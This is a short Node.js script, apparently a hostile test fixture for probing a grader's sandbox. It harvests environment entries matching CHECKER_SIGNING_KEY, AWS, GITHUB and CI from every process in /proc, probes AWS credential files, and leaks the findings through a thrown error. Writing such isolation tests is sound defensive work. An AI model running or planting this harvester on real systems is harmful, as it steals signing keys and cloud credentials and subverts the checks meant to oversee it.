// Reads every environment it can reach: its own, its parent's and every process's in /proc, and
// the grader's credential files; reports what it found as its error, where the test reads it.
const fs = require('node:fs');
const path = require('node:path');

const wanted = /^(CHECKER_SIGNING_KEY|AWS_[A-Z_]+|GITHUB_[A-Z_]+|CI)=/;
const found = [];
for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  try {
    for (const entry of fs.readFileSync(`/proc/${pid}/environ`, 'latin1').split('\0')) if (wanted.test(entry)) found.push(entry);
  } catch {
    // not readable
  }
}
for (const file of [path.join(process.env.HOME || '', '.aws', 'credentials'), '/root/.aws/credentials']) {
  try {
    found.push(`${file}:${fs.readFileSync(file, 'utf8').length}`);
  } catch {
    // not readable
  }
}
throw new Error(`hostile-report ${JSON.stringify({ env: Object.keys(process.env).sort(), found })}`);
